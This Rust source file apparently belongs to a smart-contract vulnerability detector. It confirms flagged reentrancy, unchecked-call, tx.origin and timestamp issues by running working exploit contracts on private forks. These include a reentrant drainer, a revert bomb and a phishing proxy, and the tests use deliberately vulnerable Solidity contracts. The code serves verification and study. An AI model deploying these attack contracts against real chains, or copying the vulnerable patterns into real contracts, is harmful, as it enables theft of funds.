@@ -1,0 +1,514 @@
+//! Demonstrations for the detector-suite-v2 classes.
+//!
+//! [`exploit`](crate::exploit) verifies the paper's selfdestruct classes
+//! by destroying the victim; the v2 classes have no such single opcode
+//! oracle, so each gets its own end-to-end demonstration on a private
+//! fork:
+//!
+//! - **Reentrancy** — deploy a forwarding attacker contract whose
+//!   empty-calldata fallback re-enters the victim exactly once, and check
+//!   the instruction trace for the victim executing *inside its own
+//!   subcall* (depth ≥ 2).
+//! - **Unchecked call return** — point the flagged entry at a contract
+//!   whose whole body is `REVERT`, and check that the outer transaction
+//!   still commits while the trace shows the swallowed inner revert.
+//! - **tx.origin authentication** — route a transaction *originated by
+//!   the owner* through a phishing proxy; the guard passes even though
+//!   `msg.sender` is the proxy, proving the auth is phishable.
+//! - **Timestamp dependence** — replay the same transaction on two forks
+//!   whose clocks differ ([`TestNet::warp_to`]) and check that the
+//!   outcome flips.
+//!
+//! Like the paper's 16.7% destruction rate, these are best-effort lower
+//! bounds: a `false` field means "not demonstrated with this playbook",
+//! not "safe".
+
+use crate::synth_calldata;
+use chain::TestNet;
+use decompiler::decompile;
+use ethainter::{Report, Vuln};
+use evm::asm::Asm;
+use evm::opcode::Opcode;
+use evm::{Address, U256, World};
+use serde::{Deserialize, Serialize};
+
+/// What [`demonstrate`] managed to show on the private fork.
+#[derive(Clone, Debug, Default, Serialize, Deserialize)]
+pub struct DemoOutcome {
+    /// The victim was observed executing inside its own subcall — the
+    /// attacker contract's fallback re-entered a flagged entry point.
+    pub reentered: bool,
+    /// Wei the attacker contract held after the re-entrant run (more
+    /// than one payout's worth when the drain amplified).
+    pub reentrancy_gain: U256,
+    /// A flagged entry point committed even though its external call
+    /// reverted — the lost-funds failure mode of an unchecked `send`.
+    pub silent_failure: bool,
+    /// An owner-originated transaction routed through a proxy passed the
+    /// `tx.origin` guard and reached the protected sink.
+    pub origin_phished: bool,
+    /// The same transaction produced different outcomes on forks whose
+    /// clocks differ — miner-influenceable behavior.
+    pub timestamp_sensitive: bool,
+}
+
+impl DemoOutcome {
+    /// True when at least one class was demonstrated end to end.
+    pub fn any(&self) -> bool {
+        self.reentered || self.silent_failure || self.origin_phished || self.timestamp_sensitive
+    }
+}
+
+/// Deduplicated entry-point selectors flagged with `vuln`.
+fn selectors_for(report: &Report, vuln: Vuln) -> Vec<u32> {
+    let mut sels: Vec<u32> =
+        report.of(vuln).flat_map(|f| f.selectors.iter().copied()).collect();
+    sels.sort_unstable();
+    sels.dedup();
+    sels
+}
+
+/// The selector left-aligned in a 32-byte word (what `MSTORE` at offset 0
+/// must write so the first four memory bytes are the selector).
+fn selector_word(selector: u32) -> U256 {
+    let mut word = [0u8; 32];
+    word[..4].copy_from_slice(&selector.to_be_bytes());
+    U256::from_be_bytes(word)
+}
+
+/// Attacker contract for the reentrancy demonstration.
+///
+/// Called with calldata, it relays the call to `victim` verbatim
+/// (bubbling failure) — the attacker's remote control. Called with empty
+/// calldata — the victim paying it out mid-entry — it re-enters the
+/// flagged `selector` exactly once, latching storage slot 0 so the chain
+/// terminates.
+fn reentrant_forwarder(victim: Address, selector: u32) -> Vec<u8> {
+    let mut a = Asm::new();
+    let relay = a.label();
+    let done = a.label();
+    a.op(Opcode::CallDataSize).jumpi_to(relay);
+
+    // Fallback: re-enter once.
+    a.push(U256::ZERO).op(Opcode::SLoad).jumpi_to(done);
+    a.push(U256::ONE).push(U256::ZERO).op(Opcode::SStore);
+    a.push(selector_word(selector)).push(U256::ZERO).op(Opcode::MStore);
+    a.push(U256::ZERO) // ret len
+        .push(U256::ZERO) // ret offset
+        .push(U256::from(4u64)) // args len: bare selector
+        .push(U256::ZERO) // args offset
+        .push(U256::ZERO) // value
+        .push(victim.to_u256())
+        .op(Opcode::Gas)
+        .op(Opcode::Call)
+        .op(Opcode::Pop);
+    a.bind(done).op(Opcode::Stop);
+
+    // Relay: forward calldata and value, bubbling failure.
+    a.bind(relay);
+    a.op(Opcode::CallDataSize).push(U256::ZERO).push(U256::ZERO).op(Opcode::CallDataCopy);
+    let ok = a.label();
+    a.push(U256::ZERO)
+        .push(U256::ZERO)
+        .op(Opcode::CallDataSize)
+        .push(U256::ZERO)
+        .op(Opcode::CallValue)
+        .push(victim.to_u256())
+        .op(Opcode::Gas)
+        .op(Opcode::Call)
+        .jumpi_to(ok);
+    a.push(U256::ZERO).push(U256::ZERO).op(Opcode::Revert);
+    a.bind(ok).op(Opcode::Stop);
+    a.assemble()
+}
+
+/// A contract whose whole body is `REVERT` — any call into it fails.
+fn revert_bomb() -> Vec<u8> {
+    let mut a = Asm::new();
+    a.push(U256::ZERO).push(U256::ZERO).op(Opcode::Revert);
+    a.assemble()
+}
+
+/// Forwarding proxy: relays every call to `victim`, preserving
+/// `tx.origin` (the phishing gadget of the tx.origin demonstration).
+fn phishing_proxy(victim: Address) -> Vec<u8> {
+    let mut a = Asm::new();
+    a.op(Opcode::CallDataSize).push(U256::ZERO).push(U256::ZERO).op(Opcode::CallDataCopy);
+    let ok = a.label();
+    a.push(U256::ZERO)
+        .push(U256::ZERO)
+        .op(Opcode::CallDataSize)
+        .push(U256::ZERO)
+        .op(Opcode::CallValue)
+        .push(victim.to_u256())
+        .op(Opcode::Gas)
+        .op(Opcode::Call)
+        .jumpi_to(ok);
+    a.push(U256::ZERO).push(U256::ZERO).op(Opcode::Revert);
+    a.bind(ok).op(Opcode::Stop);
+    a.assemble()
+}
+
+/// Runs the re-entrancy playbook for one flagged selector with one
+/// calldata word used during escalation; returns the outcome evidence.
+fn run_reentrancy(net: &TestNet, victim: Address, sel: u32, word: U256) -> (bool, U256) {
+    let mut fork = net.fork();
+    let attacker = fork.funded_account(U256::from(1_000_000u64));
+    let forwarder = fork.deploy(attacker, reentrant_forwarder(victim, sel));
+
+    // Escalate victim state *as the forwarder* (deposits and
+    // registrations must credit the contract that will re-enter).
+    let program = decompile(&fork.code(victim));
+    let mut esc = Vec::with_capacity(4 + 64);
+    for f in &program.functions {
+        if f.selector == sel {
+            continue;
+        }
+        esc.clear();
+        esc.extend_from_slice(&f.selector.to_be_bytes());
+        esc.extend_from_slice(&word.to_be_bytes());
+        esc.extend_from_slice(&word.to_be_bytes());
+        fork.call(attacker, forwarder, esc.clone(), U256::ZERO);
+    }
+
+    // Fire the flagged entry point through the forwarder.
+    let r = fork.call_traced(attacker, forwarder, synth_calldata(sel, attacker), U256::ZERO);
+    // Re-entry evidence: the victim executing its external call *inside
+    // its own subcall*. A merely attempted re-entry that a guard repels
+    // (effects-first code) reverts before reaching the call and leaves
+    // no such step.
+    let reentered = r.success
+        && r.trace
+            .steps
+            .iter()
+            .any(|s| s.address == victim && s.op == Opcode::Call && s.depth >= 2);
+    (reentered, fork.balance(forwarder))
+}
+
+/// Attempts to demonstrate every flagged detector-suite-v2 class on a
+/// **private fork** of `net`, leaving the original network untouched.
+///
+/// `owner_hint` is the address whose `tx.origin` the phishing
+/// demonstration impersonates — the party a real phisher would trick
+/// into clicking. Without it the tx.origin demonstration is skipped
+/// (recorded as not demonstrated).
+pub fn demonstrate(
+    net: &TestNet,
+    victim: Address,
+    report: &Report,
+    owner_hint: Option<Address>,
+) -> DemoOutcome {
+    let mut outcome = DemoOutcome::default();
+
+    // Reentrancy: escalate with a small-integer word first (a plausible
+    // deposit amount the victim can actually pay back), then with the
+    // attacker-address word (registration-style escalation).
+    for sel in selectors_for(report, Vuln::Reentrancy) {
+        for word in [U256::ONE, Address::from_seed(0).to_u256()] {
+            let (reentered, gain) = run_reentrancy(net, victim, sel, word);
+            if reentered {
+                outcome.reentered = true;
+                outcome.reentrancy_gain = gain;
+                break;
+            }
+        }
+        if outcome.reentered {
+            break;
+        }
+    }
+
+    // Unchecked call return: make the external call fail loudly and
+    // check the transaction commits anyway.
+    let unchecked = selectors_for(report, Vuln::UncheckedCallReturn);
+    if !unchecked.is_empty() {
+        let mut fork = net.fork();
+        let attacker = fork.funded_account(U256::from(1_000_000u64));
+        let bomb = fork.deploy(attacker, revert_bomb());
+        for sel in unchecked {
+            // selector ++ bomb ++ 0: the recipient argument is the bomb,
+            // any amount argument is zero so only the call result varies.
+            let mut data = sel.to_be_bytes().to_vec();
+            data.extend_from_slice(&bomb.to_u256().to_be_bytes());
+            data.extend_from_slice(&U256::ZERO.to_be_bytes());
+            let r = fork.call_traced(attacker, victim, data, U256::ZERO);
+            let swallowed = r.success
+                && r.trace
+                    .steps
+                    .iter()
+                    .any(|s| s.op == Opcode::Revert && s.address == bomb && s.depth >= 1);
+            if swallowed {
+                outcome.silent_failure = true;
+                break;
+            }
+        }
+    }
+
+    // tx.origin authentication: the owner originates the transaction,
+    // but the victim only ever sees the proxy as msg.sender.
+    let origin_sels = selectors_for(report, Vuln::TxOriginAuth);
+    if let Some(owner) = owner_hint {
+        for sel in origin_sels {
+            let mut fork = net.fork();
+            fork.state_mut().set_balance(owner, U256::from(1_000_000u64));
+            fork.state_mut().commit();
+            let attacker = fork.funded_account(U256::from(1_000u64));
+            let proxy = fork.deploy(owner, phishing_proxy(victim));
+            let r = fork.call_traced(owner, proxy, synth_calldata(sel, attacker), U256::ZERO);
+            let sink_reached = r.success
+                && r.trace.steps.iter().any(|s| {
+                    s.address == victim
+                        && matches!(
+                            s.op,
+                            Opcode::SStore | Opcode::SelfDestruct | Opcode::Call | Opcode::CallCode
+                        )
+                });
+            if sink_reached {
+                outcome.origin_phished = true;
+                break;
+            }
+        }
+    }
+
+    // Timestamp dependence: same transaction, two clocks.
+    for sel in selectors_for(report, Vuln::TimestampDependence) {
+        let probe = |warp: Option<u64>| -> bool {
+            let mut fork = net.fork();
+            if let Some(t) = warp {
+                fork.warp_to(t);
+            }
+            let attacker = fork.funded_account(U256::from(1_000_000u64));
+            let mut data = sel.to_be_bytes().to_vec();
+            data.extend_from_slice(&attacker.to_u256().to_be_bytes());
+            data.extend_from_slice(&U256::ONE.to_be_bytes());
+            fork.call(attacker, victim, data, U256::ZERO).success
+        };
+        let now = probe(None);
+        // Far enough past any plausible deadline (≈ 17 years).
+        let later = probe(Some(net.timestamp() + 0x2000_0000));
+        if now != later {
+            outcome.timestamp_sensitive = true;
+            break;
+        }
+    }
+
+    outcome
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use ethainter::{analyze_bytecode, Config};
+
+    fn deploy(src: &str, funds: u64) -> (TestNet, Address, Report) {
+        let compiled = minisol::compile_source(src).unwrap();
+        let mut net = TestNet::new();
+        let deployer = net.funded_account(U256::from(1_000u64));
+        let addr = net.deploy(deployer, compiled.bytecode.clone());
+        for (slot, value) in &compiled.initial_storage {
+            net.state_mut().storage_set(addr, *slot, *value);
+        }
+        net.state_mut().set_balance(addr, U256::from(funds));
+        net.state_mut().commit();
+        let report = analyze_bytecode(&compiled.bytecode, &Config::default());
+        (net, addr, report)
+    }
+
+    const REENTRANT_BANK: &str = r#"contract Bank {
+        mapping(address => uint) balances;
+        function deposit(uint v) public { balances[msg.sender] += v; }
+        function withdraw() public {
+            uint bal = balances[msg.sender];
+            require(bal > 0x0);
+            require(send(msg.sender, bal));
+            balances[msg.sender] = 0x0;
+        }
+    }"#;
+
+    const EFFECTS_FIRST_BANK: &str = r#"contract Bank {
+        mapping(address => uint) balances;
+        function deposit(uint v) public { balances[msg.sender] += v; }
+        function withdraw() public {
+            uint bal = balances[msg.sender];
+            require(bal > 0x0);
+            balances[msg.sender] = 0x0;
+            require(send(msg.sender, bal));
+        }
+    }"#;
+
+    #[test]
+    fn reenters_vulnerable_bank_and_doubles_payout() {
+        let (net, victim, report) = deploy(REENTRANT_BANK, 1_000);
+        assert!(report.has(Vuln::Reentrancy));
+        let d = demonstrate(&net, victim, &report, None);
+        assert!(d.reentered, "{d:?}");
+        // One deposit of 1 wei came back twice: the second withdrawal ran
+        // before the first zeroed the balance.
+        assert_eq!(d.reentrancy_gain, U256::from(2u64), "{d:?}");
+        assert!(!net.is_destroyed(victim));
+    }
+
+    #[test]
+    fn effects_first_bank_resists_reentry() {
+        let (net, victim, report) = deploy(EFFECTS_FIRST_BANK, 1_000);
+        assert!(!report.has(Vuln::Reentrancy));
+        // Even when *told* the bank is re-entrant, the playbook fails:
+        // the inner withdraw sees a zeroed balance and reverts.
+        let forged = Report {
+            findings: vec![ethainter::Finding {
+                vuln: Vuln::Reentrancy,
+                stmt: 0,
+                pc: 0,
+                selectors: vec![u32::from_be_bytes(evm::selector("withdraw()"))],
+                composite: false,
+            }],
+            ..Report::default()
+        };
+        let d = demonstrate(&net, victim, &forged, None);
+        assert!(!d.reentered, "{d:?}");
+    }
+
+    #[test]
+    fn unchecked_send_commits_over_swallowed_revert() {
+        let (net, victim, report) = deploy(
+            r#"contract Payer {
+                uint nonce;
+                function pay(address to, uint amount) public {
+                    send(to, amount);
+                    nonce += 0x1;
+                }
+            }"#,
+            100,
+        );
+        assert!(report.has(Vuln::UncheckedCallReturn));
+        let d = demonstrate(&net, victim, &report, None);
+        assert!(d.silent_failure, "{d:?}");
+    }
+
+    #[test]
+    fn checked_send_is_not_silently_failing() {
+        let (net, victim, report) = deploy(
+            r#"contract Payer {
+                uint nonce;
+                function pay(address to, uint amount) public {
+                    require(send(to, amount));
+                    nonce += 0x1;
+                }
+            }"#,
+            100,
+        );
+        // Not flagged, and a forged finding cannot be demonstrated either:
+        // the bomb's revert aborts the whole transaction.
+        assert!(!report.has(Vuln::UncheckedCallReturn));
+        let forged = Report {
+            findings: vec![ethainter::Finding {
+                vuln: Vuln::UncheckedCallReturn,
+                stmt: 0,
+                pc: 0,
+                selectors: vec![u32::from_be_bytes(evm::selector("pay(address,uint256)"))],
+                composite: false,
+            }],
+            ..Report::default()
+        };
+        let d = demonstrate(&net, victim, &forged, None);
+        assert!(!d.silent_failure, "{d:?}");
+    }
+
+    #[test]
+    fn origin_guard_phished_through_proxy() {
+        let (net, victim, report) = deploy(
+            r#"contract Drop {
+                address owner = 0x1234;
+                mapping(address => uint) credits;
+                function claim(address to, uint v) public {
+                    require(tx.origin == owner);
+                    credits[to] += v;
+                }
+            }"#,
+            0,
+        );
+        assert!(report.has(Vuln::TxOriginAuth));
+        let owner = Address::from_low_u64(0x1234);
+        let d = demonstrate(&net, victim, &report, Some(owner));
+        assert!(d.origin_phished, "{d:?}");
+        // Without the owner hint there is nobody to phish.
+        let d = demonstrate(&net, victim, &report, None);
+        assert!(!d.origin_phished, "{d:?}");
+    }
+
+    #[test]
+    fn sender_guard_resists_the_phishing_proxy() {
+        let (net, victim, report) = deploy(
+            r#"contract Drop {
+                address owner = 0x1234;
+                mapping(address => uint) credits;
+                function claim(address to, uint v) public {
+                    require(msg.sender == owner);
+                    credits[to] += v;
+                }
+            }"#,
+            0,
+        );
+        assert!(!report.has(Vuln::TxOriginAuth));
+        let forged = Report {
+            findings: vec![ethainter::Finding {
+                vuln: Vuln::TxOriginAuth,
+                stmt: 0,
+                pc: 0,
+                selectors: vec![u32::from_be_bytes(evm::selector("claim(address,uint256)"))],
+                composite: false,
+            }],
+            ..Report::default()
+        };
+        let owner = Address::from_low_u64(0x1234);
+        let d = demonstrate(&net, victim, &forged, Some(owner));
+        // msg.sender is the proxy, not the owner: the guard holds.
+        assert!(!d.origin_phished, "{d:?}");
+    }
+
+    #[test]
+    fn timestamp_deadline_flips_under_warp() {
+        let (net, victim, report) = deploy(
+            r#"contract Lotto {
+                uint deadline = 0x60000000;
+                function payout(address to, uint amount) public {
+                    require(block.timestamp > deadline);
+                    require(send(to, amount));
+                }
+            }"#,
+            100,
+        );
+        assert!(report.has(Vuln::TimestampDependence));
+        let d = demonstrate(&net, victim, &report, None);
+        assert!(d.timestamp_sensitive, "{d:?}");
+        assert!(d.any());
+    }
+
+    #[test]
+    fn blocknumber_deadline_is_not_timestamp_sensitive() {
+        let (net, victim, report) = deploy(
+            r#"contract Lotto {
+                uint deadline = 0x60000000;
+                function payout(address to, uint amount) public {
+                    require(block.number > deadline);
+                    require(send(to, amount));
+                }
+            }"#,
+            100,
+        );
+        assert!(!report.has(Vuln::TimestampDependence));
+        let forged = Report {
+            findings: vec![ethainter::Finding {
+                vuln: Vuln::TimestampDependence,
+                stmt: 0,
+                pc: 0,
+                selectors: vec![u32::from_be_bytes(evm::selector("payout(address,uint256)"))],
+                composite: false,
+            }],
+            ..Report::default()
+        };
+        let d = demonstrate(&net, victim, &forged, None);
+        // warp_to moves the block number by seconds/13 — far short of the
+        // 0x60000000 block deadline, so the outcome never flips.
+        assert!(!d.timestamp_sensitive, "{d:?}");
+    }
+}
